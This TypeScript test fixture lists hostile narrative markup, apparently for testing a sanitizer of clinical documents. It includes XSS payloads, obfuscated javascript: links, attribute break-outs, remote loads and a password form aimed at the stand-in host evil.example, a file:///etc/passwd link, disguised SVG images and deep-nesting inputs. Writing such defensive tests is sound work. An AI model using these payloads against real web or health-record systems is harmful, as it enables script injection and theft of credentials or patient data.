const link = (href: string) => `<linkHtml href="${href}">words</linkHtml>`;
const media = (type: string, base64: string) =>
  `<entry><observationMedia ID="m"><value mediaType="${type}" representation="B64">${base64}</value></observationMedia></entry>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const nested = (depth: number) => '<table><tr><td>'.repeat(depth) + 'deep' + '</td></tr></table>'.repeat(depth);

/** For tests: narratives that were made to do harm. */
const narratives: readonly (readonly [name: string, text: string, entries?: string])[] = [
  [
    'an event in a table',
    '<table onmouseover="alert(1)"><tr onclick="a()"><td onload="b()" style="x:y">x</td></tr></table>',
  ],
  ['a remote picture', '<img src="http://evil.example/x.png" onerror="alert(1)"/>words'],
  ['a style sheet', '<link rel="stylesheet" href="http://evil.example/x.css"/>words'],
  ['styles', '<style>@import url(http://evil.example/); p { x: expression(alert(1)) }</style>words'],
  ['a script', '<script>alert(1)</script><script src="http://evil.example/x.js"/>words'],
  ['a script of HTML', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>words'],
  [
    'a drawing',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><a href="javascript:alert(1)">x</a></svg>',
  ],
  [
    'mathematics',
    '<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table><mglyph><style/></mglyph></table></mtext></math>words',
  ],
  ['a frame', '<iframe src="http://evil.example/" srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">words</iframe>'],
  ['a base', '<base href="http://evil.example/"/>words'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=http://evil.example/"/>words'],
  [
    'a form',
    '<form action="http://evil.example/"><input name="password"/><button>Send</button><textarea>x</textarea></form>',
  ],
  ['an object', '<object data="http://evil.example/x.swf"><embed src="x"/><param name="a"/>words</object>'],
  [
    'media',
    '<video src="http://evil.example/x"/><audio src="x"/><picture><source srcset="http://evil.example/x"/></picture>words',
  ],
  [
    'a template',
    '<template><script>alert(1)</script></template><noscript>x</noscript><plaintext>words</plaintext><xmp>y</xmp>',
  ],
  ['a link of XLink', '<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:alert(1)">words</a>'],
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java&#9;script:alert(1)',
    'java&#10;script:alert(1)',
    '&#106;avascript&#58;alert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;',
    'file:///etc/passwd',
    'blob:https://evil.example/1',
    '//evil.example/',
    '/api/patients/1',
    '?token=1',
    'https:evil.example',
    'http://[broken',
    '#&quot; onclick=&quot;alert(1)',
    'https://evil.example/&quot; onclick=&quot;alert(1)',
  ].map((href) => [`a link to ${href}`, link(href)] as const),
  [
    'styles as code',
    '<paragraph styleCode="x;background:url(http://evil.example/) Bold&quot; onclick=&quot;a()">words</paragraph>',
  ],
  [
    'attributes that end',
    '<td ID="a&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" abbr="&quot; onfocus=&quot;a()">words</td>',
  ],
  [
    'markup as words',
    '&lt;script&gt;alert(1)&lt;/script&gt; &lt;/div&gt;&lt;/details&gt;<![CDATA[<img src=x onerror=alert(1)>]]> &amp;lt;b&amp;gt;',
  ],
  [
    'ids of ours',
    '<paragraph ID="body">a</paragraph><paragraph ID="s-0">b</paragraph><paragraph ID="fn-0-1">c</paragraph><paragraph ID="__proto__">d</paragraph>',
  ],
  [
    'ids twice',
    '<paragraph ID="x">a</paragraph><paragraph ID="x">b</paragraph><footnote ID="x">c</footnote><footnote ID="x">d</footnote>',
  ],
  [
    'a drawing that says it is a picture',
    '<renderMultiMedia referencedObject="m"/>',
    media('image/png', base64('<svg onload="alert(1)"/>')),
  ],
  [
    'HTML that says it is a picture',
    '<renderMultiMedia referencedObject="m"/>',
    media('image/png', base64('<script>alert(1)</script>')),
  ],
  [
    'a picture that ends its attribute',
    '<renderMultiMedia referencedObject="m"/>',
    media('image/png', 'iVBORw0KGgo=&quot; onerror=&quot;alert(1)'),
  ],
  [
    'a picture far away',
    '<renderMultiMedia referencedObject="m"/>',
    '<entry><observationMedia ID="m"><value mediaType="image/png"><reference value="http://evil.example/x.png"/></value></observationMedia></entry>',
  ],
  [
    'a picture that is named a thousand times',
    '<renderMultiMedia referencedObject="m"/>'.repeat(1000),
    media('image/png', `iVBORw0KGgo${'A'.repeat(4001)}`),
  ],
  ['spans without end', '<table><tr><td colspan="1000000" rowspan="1000000">x</td></tr></table>'],
  ['tables in tables', nested(50)],
  ['footnotes in footnotes', `${'<footnote><paragraph>'.repeat(60)}x${'</paragraph></footnote>'.repeat(60)}`],
  ['a footnote that refers to itself', '<footnote ID="f">x<footnoteRef IDREF="f"/></footnote>'],
  [
    'links in links',
    `${'<linkHtml href="https://a.example/"><list><item>'.repeat(20)}x${'</item></list></linkHtml>'.repeat(20)}`,
  ],
  [
    'turned words',
    '<paragraph>&#x202E;&#x2066;&#x202B;evil.example</paragraph><table><tr><td>&#x202E;12</td><td>34</td></tr></table>',
  ],
  [
    'names of objects',
    '<constructor><__proto__>words</__proto__></constructor><toString hasOwnProperty="1">x</toString>',
  ],
];

export const hostileNarratives = narratives.map(([name, text, entries = '']) => ({ name, text, entries }));
